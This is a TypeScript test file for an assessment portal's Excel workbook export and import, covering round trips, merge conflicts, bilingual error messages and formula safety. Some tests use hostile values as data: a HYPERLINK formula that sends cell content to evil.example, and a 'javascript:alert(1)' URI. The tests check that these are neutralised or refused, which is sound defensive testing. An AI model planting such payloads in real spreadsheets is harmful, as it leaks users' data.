/**
 * The Excel workbook (src/office/): written with the real library, edited with the same library as a user's
 * spreadsheet would be, read back. Round trip, conflicts between files, every bad input with its message in both
 * languages, formula safety, and the drop-down, frozen header and protection in the written file.
 */
import ExcelJS from 'exceljs';
import { readFileSync } from 'node:fs';
import { beforeAll, describe, expect, it } from 'vitest';
import { placeholderNames } from '../../src/engine/message.ts';
import { loadCatalog, loadPractice } from '../../src/loader/load.ts';
import { assessmentFromJson, validateAssessment, withAnswer, type Assessment } from '../../src/engine/index.ts';
import { OFFICE_DICTIONARIES } from '../../src/i18n/office.ts';
import {
  applyImport,
  assessmentToXlsx,
  columnWidths,
  displayWidth,
  formatConflict,
  formatNotice,
  formatXlsxProblem,
  MAX_XLSX_BYTES,
  detailsFromAbout,
  previewXlsxImport,
  readAboutFile,
  readAnswerFile,
  type XlsxProblem,
} from '../../src/office/index.ts';

const SLOW = { timeout: 60_000 };
const catalog = loadCatalog();

function example(file: string): Assessment {
  const parsed = assessmentFromJson(readFileSync(file, 'utf8'));
  if (!parsed.success) throw new Error(`${file} does not parse`);
  return parsed.assessment;
}
const weak = example('assessments/examples/weak-supplier.json');

/** Opens written bytes with the library, lets `edit` change the workbook, returns the new bytes. */
async function editWorkbook(bytes: Uint8Array, edit: (wb: ExcelJS.Workbook) => void): Promise<Uint8Array> {
  const wb = new ExcelJS.Workbook();
  await wb.xlsx.load(bytes.slice().buffer);
  edit(wb);
  return new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
}

/** The row of an element in the elements sheet. */
function rowOf(sheet: ExcelJS.Worksheet, id: string): ExcelJS.Row {
  let found: ExcelJS.Row | undefined;
  sheet.eachRow((row) => {
    if (row.getCell(1).value === id) found = row;
  });
  if (!found) throw new Error(`no row for ${id}`);
  return found;
}

const messagesOf = (problems: XlsxProblem[], locale: 'zh-CN' | 'en') =>
  problems.map((p) => formatXlsxProblem(p, locale));

async function problemsOf(bytes: Uint8Array, target: Assessment = weak): Promise<XlsxProblem[]> {
  const result = await previewXlsxImport(catalog, target, [{ name: 'a.xlsx', bytes }]);
  if (result.ok) throw new Error('expected problems');
  return result.problems;
}

let exported: Uint8Array;
beforeAll(async () => {
  exported = await assessmentToXlsx(catalog, weak, 'zh-CN');
}, 60_000);

describe('xlsx export', SLOW, () => {
  it('writes the elements with a level drop-down, a frozen header and a locked, protected ID column', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(exported.slice().buffer);
    expect(wb.worksheets.map((s) => s.name)).toEqual(['要素', '得分', '改进计划', '关于']);
    const sheet = wb.getWorksheet('要素')!;
    expect(sheet.getRow(1).values).toContain('编号');
    expect(sheet.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    const level = rowOf(sheet, 'DM-PLAN-01').getCell(6);
    expect(level.value).toBe('P');
    expect(level.dataValidation).toMatchObject({ type: 'list', formulae: ['"N,P,L,F,NA"'] });
    // Excel locks a cell unless its style says otherwise; the library reads back only a lock that differs.
    expect(rowOf(sheet, 'DM-PLAN-01').getCell(1).protection?.locked ?? true).toBe(true);
    expect(level.protection).toMatchObject({ locked: false });
    // Not in the library's types: the model it read from <sheetProtection>.
    expect((sheet as unknown as { sheetProtection: unknown }).sheetProtection).toMatchObject({ sheet: true });
    expect(wb.getWorksheet('关于')!.state).toBe('hidden');
    // Out-of-scope clauses (6.4, 6.5, 7.2 for this assessment) have no rows.
    const ids: string[] = [];
    sheet.eachRow((row, n) => void (n > 1 && ids.push(String(row.getCell(1).value))));
    expect(ids).toContain('DM-PLAN-01');
    for (const id of ids) expect(catalog.elements.find((e) => e.id === id)!.clause).not.toMatch(/^(6\.4|6\.5|7\.2)$/);
  });

  it('names the sheets and headers in English', async () => {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load((await assessmentToXlsx(catalog, weak, 'en')).slice().buffer);
    expect(wb.worksheets.map((s) => s.name)).toEqual(['elements', 'scores', 'plan', 'about']);
    expect(wb.getWorksheet('elements')!.getCell('A1').value).toBe('ID');
  });

  it('sizes columns counting a CJK character as two', () => {
    expect(displayWidth('abc')).toBe(3);
    expect(displayWidth('服务级别')).toBe(8);
    expect(displayWidth('短\n更长一行')).toBe(8);
    expect(columnWidths(['编号'], [['服务级别协议']])).toEqual([14]);
    expect(columnWidths(['x'], [['y'.repeat(500)]])).toEqual([62]);
  });
});

describe('xlsx round trip', SLOW, () => {
  it('imports exactly the levels changed in the spreadsheet, and nothing else', async () => {
    const edited = await editWorkbook(exported, (wb) => {
      const sheet = wb.getWorksheet('要素')!;
      rowOf(sheet, 'DM-PLAN-01').getCell(6).value = 'F';
      rowOf(sheet, 'DM-PLAN-03').getCell(6).value = 'L';
    });
    const result = await previewXlsxImport(catalog, weak, [{ name: 'a.xlsx', bytes: edited }]);
    if (!result.ok) throw new Error(result.problems.map((p) => formatXlsxProblem(p, 'en')).join('\n'));
    const changed = result.preview.changes.filter((c) => c.status !== 'unchanged');
    expect(changed.map((c) => [c.id, c.status, c.before?.level, c.after?.level, c.fields])).toEqual([
      ['DM-PLAN-01', 'changed', 'P', 'F', ['level']],
      ['DM-PLAN-03', 'changed', 'N', 'L', ['level']],
    ]);
    expect(result.preview.conflicts).toEqual([]);
    const applied = applyImport(catalog, weak, result.preview, {}, new Date('2026-01-01T00:00:00Z'));
    if (!applied.ok) throw new Error('apply failed');
    const next = applied.assessment;
    expect(validateAssessment(catalog, next).filter((i) => i.severity === 'error')).toEqual([]);
    const expected = withAnswer(
      withAnswer(weak, 'DM-PLAN-01', { ...weak.answers['DM-PLAN-01']!, level: 'F' }, new Date('2026-01-01T00:00:00Z')),
      'DM-PLAN-03',
      { ...weak.answers['DM-PLAN-03']!, level: 'L' },
      new Date('2026-01-01T00:00:00Z'),
    );
    expect(next).toEqual(expected);
  });

  it('reads a new answer, justification and notes, and leaves an untouched file without changes', async () => {
    const unanswered = weak.answers['DM-PLAN-02'] ? 'DM-PLAN-02' : undefined;
    const base = unanswered ? withAnswer(weak, unanswered, undefined) : weak;
    const bytes = await assessmentToXlsx(catalog, base, 'en');
    const same = await previewXlsxImport(catalog, base, [{ name: 'same.xlsx', bytes }]);
    expect(same.ok && same.preview.changes.every((c) => c.status === 'unchanged')).toBe(true);
    const edited = await editWorkbook(bytes, (wb) => {
      const row = rowOf(wb.getWorksheet('elements')!, 'DM-PLAN-02');
      row.getCell(6).value = 'NA';
      row.getCell(7).value = 'No planning in this contract';
      row.getCell(9).value = { richText: [{ text: 'checked ' }, { text: 'twice' }] };
    });
    const result = await previewXlsxImport(catalog, base, [{ name: 'b.xlsx', bytes: edited }]);
    if (!result.ok) throw new Error('problems');
    const change = result.preview.changes.find((c) => c.id === 'DM-PLAN-02')!;
    expect(change).toMatchObject({
      status: 'new',
      after: { level: 'NA', justification: 'No planning in this contract', notes: 'checked twice' },
    });
  });

  it('keeps a hostile justification as text: written as a string, never a formula, and read back unchanged', async () => {
    const hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")';
    const base = withAnswer(weak, 'DM-PLAN-02', { level: 'NA', justification: hostile, notes: '+1 @SUM(A1)' });
    const bytes = await assessmentToXlsx(catalog, base, 'zh-CN');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(bytes.slice().buffer);
    const cell = rowOf(wb.getWorksheet('要素')!, 'DM-PLAN-02').getCell(7);
    expect(cell.value).toBe(hostile);
    expect(cell.type).toBe(ExcelJS.ValueType.String);
    expect(cell.formula).toBeUndefined();
    const result = await previewXlsxImport(catalog, base, [{ name: 'h.xlsx', bytes }]);
    expect(result.ok && result.preview.changes.find((c) => c.id === 'DM-PLAN-02')!.status).toBe('unchanged');
  });
});

describe('xlsx merge of several files', SLOW, () => {
  const edit = (id: string, level: string) => (wb: ExcelJS.Workbook) => {
    rowOf(wb.getWorksheet('要素')!, id).getCell(6).value = level;
  };

  it('reports a conflict when two files answer one element differently, and applies after a choice', async () => {
    const a = await editWorkbook(exported, edit('DM-PLAN-01', 'L'));
    const b = await editWorkbook(exported, (wb) => {
      edit('DM-PLAN-01', 'F')(wb);
      edit('DM-PLAN-03', 'P')(wb);
    });
    const result = await previewXlsxImport(catalog, weak, [
      { name: 'alice.xlsx', bytes: a },
      { name: 'bob.xlsx', bytes: b },
    ]);
    if (!result.ok) throw new Error('problems');
    const { preview } = result;
    expect(preview.conflicts.map((c) => [c.id, c.proposals.map((p) => [p.file, p.answer.level])])).toEqual([
      [
        'DM-PLAN-01',
        [
          ['alice.xlsx', 'L'],
          ['bob.xlsx', 'F'],
        ],
      ],
    ]);
    expect(formatConflict(preview.conflicts[0]!, 'zh-CN')).toMatch(
      /^要素 DM-PLAN-01：alice\.xlsx（第 \d+ 行）为 L，bob\.xlsx/,
    );
    expect(formatConflict(preview.conflicts[0]!, 'en')).toMatch(/^element DM-PLAN-01: alice\.xlsx \(row \d+\) says L/);
    const refused = applyImport(catalog, weak, preview);
    expect(refused).toMatchObject({ ok: false, unresolved: ['DM-PLAN-01'] });
    const applied = applyImport(catalog, weak, preview, { 'DM-PLAN-01': 1 });
    expect(applied.ok && applied.assessment.answers['DM-PLAN-01']!.level).toBe('F');
    expect(applied.ok && applied.assessment.answers['DM-PLAN-03']!.level).toBe('P');
  });

  it('lets two files agree, and one file change what the other left alone', async () => {
    const a = await editWorkbook(exported, edit('DM-PLAN-01', 'L'));
    const b = await editWorkbook(exported, (wb) => {
      edit('DM-PLAN-01', 'L')(wb);
      edit('DM-PLAN-03', 'P')(wb);
    });
    const result = await previewXlsxImport(catalog, weak, [
      { name: 'a.xlsx', bytes: a },
      { name: 'b.xlsx', bytes: b },
    ]);
    if (!result.ok) throw new Error('problems');
    expect(result.preview.conflicts).toEqual([]);
    expect(result.preview.changes.filter((c) => c.status !== 'unchanged').map((c) => c.id)).toEqual([
      'DM-PLAN-01',
      'DM-PLAN-03',
    ]);
  });
});

describe('xlsx bad input', SLOW, () => {
  const messages = (problems: XlsxProblem[]) => ({
    zh: problems.map((p) => formatXlsxProblem(p, 'zh-CN')),
    en: problems.map((p) => formatXlsxProblem(p, 'en')),
  });

  it('refuses a file over 5 MB before reading it', async () => {
    const big = new Uint8Array(MAX_XLSX_BYTES + 1);
    const m = messages(await problemsOf(big));
    expect(m.en).toEqual(['a.xlsx: the file is 5.1 MB, over the 5 MB limit.']);
    expect(m.zh).toEqual(['a.xlsx：文件有 5.1 MB，超过 5 MB 的上限。']);
  });

  it('refuses a file that is not an xlsx, and a zip that is not a workbook', async () => {
    const text = new TextEncoder().encode('{"schemaVersion": 2}');
    expect(messages(await problemsOf(text)).en).toEqual([
      'a.xlsx: this is not an Excel workbook (.xlsx) and cannot be read.',
    ]);
    const zip = new Uint8Array([0x50, 0x4b, 0x03, 0x04, 1, 2, 3, 4, 5]);
    expect((await problemsOf(zip))[0]!.code).toBe('not-xlsx');
  });

  it('refuses a workbook that is not ours', async () => {
    const wb = new ExcelJS.Workbook();
    wb.addWorksheet('Sheet1').addRow(['ID', 'Level']);
    const bytes = new Uint8Array((await wb.xlsx.writeBuffer()) as ArrayBuffer);
    const m = messages(await problemsOf(bytes));
    expect(m.zh[0]).toContain('不是本门户导出的评估答案表');
    expect(m.en[0]).toContain('not an answer sheet exported by this portal');
  });

  it('refuses answers of another catalog', async () => {
    const handover = example('assessments/practices/handover/examples/partly-ready-project.json');
    const handoverCatalog = loadPractice('assessments/practices/handover', catalog);
    const result = await previewXlsxImport(handoverCatalog, handover, [{ name: 'a.xlsx', bytes: exported }]);
    const problems = result.ok ? [] : result.problems;
    expect(problems.map((p) => formatXlsxProblem(p, 'en'))).toEqual([
      'a.xlsx: this workbook holds answers for catalog gbt28827.2, but the target assessment uses handover.',
    ]);
  });

  it('names sheet, row and column of an unknown ID, a level off the list, a formula and NA without reason', async () => {
    let rows: Record<string, number> = {};
    const edited = await editWorkbook(exported, (wb) => {
      const sheet = wb.getWorksheet('要素')!;
      const r1 = rowOf(sheet, 'DM-PLAN-01');
      const r2 = rowOf(sheet, 'DM-PLAN-02');
      const r3 = rowOf(sheet, 'DM-PLAN-03');
      const extra = sheet.addRow(['XX-NOPE-99', '5.2', '', '', '', 'F']);
      rows = { r1: r1.number, r2: r2.number, r3: r3.number, extra: extra.number };
      r1.getCell(6).value = 'X';
      r2.getCell(9).value = { formula: 'HYPERLINK("http://evil.example","x")', result: 'x' };
      r3.getCell(6).value = 'NA';
      r3.getCell(7).value = null;
    });
    const m = messages(await problemsOf(edited));
    expect(m.zh).toEqual([
      `a.xlsx：工作表“要素”第 ${rows.r1} 行 F 列：实施程度“X”不在列表中（N、P、L、F、NA）。`,
      `a.xlsx：工作表“要素”第 ${rows.r2} 行 I 列：单元格含有公式（=HYPERLINK("http://evil.example","x")），只接受直接输入的文字。`,
      `a.xlsx：工作表“要素”第 ${rows.r3} 行 G 列：要素 DM-PLAN-03 为 NA（不适用），但没有填写理由。`,
      `a.xlsx：工作表“要素”第 ${rows.extra} 行 A 列：要素编号“XX-NOPE-99”不在要素目录中。`,
    ]);
    expect(m.en[0]).toBe(
      `a.xlsx: Sheet “要素”, row ${rows.r1}, column F: level “X” is not on the list (N, P, L, F, NA).`,
    );
    expect(m.en[3]).toContain(`column A: element ID “XX-NOPE-99” is not in the catalog.`);
  });

  it('names a repeated ID, a sub-item, a target off the list, entries without a level and a non-http URL', async () => {
    const rows: Record<string, number> = {};
    const edited = await editWorkbook(exported, (wb) => {
      const sheet = wb.getWorksheet('要素')!;
      const r1 = rowOf(sheet, 'DM-PLAN-01');
      const r2 = rowOf(sheet, 'DM-PLAN-02');
      const r3 = rowOf(sheet, 'DM-PLAN-03');
      r1.getCell(8).value = 'X';
      r2.getCell(6).value = null;
      r2.getCell(9).value = 'a note without a level';
      r3.getCell(10).value = 'Runbook <javascript:alert(1)>';
      const again = sheet.addRow(['DM-PLAN-01', '5.2', '', '', '', 'F']);
      const sub = sheet.addRow(['DC-ROUT-02f', '6.2', '', '', '', 'F']);
      Object.assign(rows, { r1: r1.number, r2: r2.number, r3: r3.number, again: again.number, sub: sub.number });
    });
    const problems = await problemsOf(edited);
    expect(problems.map((p) => [p.code, p.row, p.column])).toEqual([
      ['bad-target', rows.r1, 'H'],
      ['level-missing', rows.r2, 'F'],
      ['bad-evidence', rows.r3, 'J'],
      ['duplicate-element', rows.again, 'A'],
      ['not-answerable', rows.sub, 'A'],
    ]);
    const en = problems.map((p) => formatXlsxProblem(p, 'en'));
    expect(en[0]).toContain('target “X” is not on the list (P, L, F, or blank).');
    expect(en[3]).toContain(`element DM-PLAN-01 already appears in row ${rows.r1}.`);
  });

  it('refuses a workbook of a newer format, and one whose elements sheet is gone', async () => {
    const newer = await editWorkbook(exported, (wb) => {
      wb.getWorksheet('关于')!.eachRow((row) => {
        if (row.getCell(1).value === 'formatVersion') row.getCell(2).value = '99';
      });
    });
    expect(messagesOf(await problemsOf(newer), 'zh-CN')).toEqual([
      'a.xlsx：这个工作簿使用了更新的格式（第 99 版），请更新门户后再导入。',
    ]);
    const renamed = await editWorkbook(exported, (wb) => {
      wb.getWorksheet('要素')!.name = 'Sheet1';
    });
    expect(messagesOf(await problemsOf(renamed), 'en')).toEqual(['a.xlsx: there is no “要素” sheet.']);
  });

  it('notes a file exported from another assessment', async () => {
    const other = { ...weak, created: '2020-01-01T00:00:00Z' };
    const result = await previewXlsxImport(catalog, other, [{ name: 'a.xlsx', bytes: exported }]);
    expect(result.ok && result.preview.notices.map((n) => formatNotice(n, 'en'))).toEqual([
      `a.xlsx was exported from another assessment, “${weak.title}”.`,
    ]);
  });

  it('refuses a sheet whose columns were moved', async () => {
    const edited = await editWorkbook(exported, (wb) => {
      wb.getWorksheet('要素')!.spliceColumns(2, 1);
    });
    const [problem] = await problemsOf(edited);
    expect(problem).toMatchObject({ code: 'header-changed', row: 1, column: 'B' });
  });

  it('reads one file alone, with the catalog, schema and assessment it came from', async () => {
    const read = await readAnswerFile(catalog, { name: 'x.xlsx', bytes: exported });
    expect(read.ok && read.sheet.meta).toMatchObject({
      format: 'gbt28827-portal-answers',
      formatVersion: '1',
      catalog: 'gbt28827.2',
      catalogVersion: catalog.structure.version,
      schemaVersion: '2',
      assessmentId: '',
      assessmentCreated: weak.created,
    });
    const withId = await assessmentToXlsx(catalog, weak, 'en', { id: 'local-7' });
    const again = await readAnswerFile(catalog, { name: 'y.xlsx', bytes: withId });
    expect(again.ok && again.sheet.meta.assessmentId).toBe('local-7');
  });
});

describe('xlsx into a new assessment', SLOW, () => {
  /** Sets about-sheet values of the exported workbook. */
  const withAbout = (values: Record<string, string>) =>
    editWorkbook(exported, (wb) => {
      wb.getWorksheet('关于')!.eachRow((row) => {
        const key = String(row.getCell(1).value);
        if (Object.hasOwn(values, key)) row.getCell(2).value = values[key]!;
      });
    });

  it('reads the details of the assessment a workbook came from', async () => {
    const about = await readAboutFile({ name: 'w.xlsx', bytes: exported });
    if (!about.ok) throw new Error('about not read');
    expect(about.meta.catalog).toBe('gbt28827.2');
    expect(detailsFromAbout(about.meta, 'w.xlsx')).toEqual({
      title: weak.title,
      subject: weak.subject,
      assessor: weak.assessor,
      perspective: weak.perspective,
      scope: weak.scope,
    });
  });

  it("falls back to a new assessment's defaults for details an older or edited workbook lacks", async () => {
    const edited = await withAbout({
      assessmentTitle: ' ',
      assessmentPerspective: 'auditor',
      assessmentScope: '6.2 9.9',
      assessmentSubject: '  某供方 ',
    });
    const about = await readAboutFile({ name: '供方答卷.XLSX', bytes: edited });
    if (!about.ok) throw new Error('about not read');
    expect(detailsFromAbout(about.meta, '供方答卷.XLSX')).toEqual({
      title: '供方答卷',
      subject: '某供方',
      assessor: weak.assessor,
      perspective: 'supplier-self',
      // 6.2 alone names no delivery mode: not a scope that can be saved, so the full scope.
      scope: { contents: ['6.2', '6.3', '6.4', '6.5'], modes: ['7.2', '7.3'] },
    });
    const partial = await withAbout({ assessmentScope: '7.2 6.4' });
    const read = await readAboutFile({ name: 'p.xlsx', bytes: partial });
    expect(read.ok && detailsFromAbout(read.meta, 'p.xlsx').scope).toEqual({ contents: ['6.4'], modes: ['7.2'] });
  });

  it('refuses a workbook that is not ours or not a workbook, before any catalog is chosen', async () => {
    const notOurs = await withAbout({ format: 'something-else' });
    const read = await readAboutFile({ name: 'x.xlsx', bytes: notOurs });
    expect(read.ok || messagesOf(read.problems, 'en')).toEqual([
      'x.xlsx: this workbook is not an answer sheet exported by this portal (the marker on its “about” sheet is missing).',
    ]);
    const text = await readAboutFile({ name: 'y.xlsx', bytes: new TextEncoder().encode('hello') });
    expect(text.ok || text.problems.map((p) => p.code)).toEqual(['not-xlsx']);
  });

  it('previews every answer as new against an empty target, without the "another assessment" notice', async () => {
    const result = await previewXlsxImport(catalog, { answers: {} }, [{ name: 'a.xlsx', bytes: exported }]);
    if (!result.ok) throw new Error('problems');
    expect(result.preview.notices).toEqual([]);
    const answered = Object.keys(weak.answers).length;
    expect(result.preview.changes.filter((c) => c.status === 'new')).toHaveLength(answered);
    expect(result.preview.changes.some((c) => c.status === 'changed')).toBe(false);
  });
});

describe('xlsx strings', () => {
  it('have the same keys and placeholders in zh-CN and en, none empty', () => {
    const zh = OFFICE_DICTIONARIES['zh-CN'];
    const en = OFFICE_DICTIONARIES.en;
    expect(Object.keys(en).sort()).toEqual(Object.keys(zh).sort());
    const placeholders = placeholderNames;
    for (const key of Object.keys(zh) as (keyof typeof zh)[]) {
      expect(zh[key].length, key).toBeGreaterThan(0);
      expect(placeholders(en[key]), key).toEqual(placeholders(zh[key]));
    }
  });
});
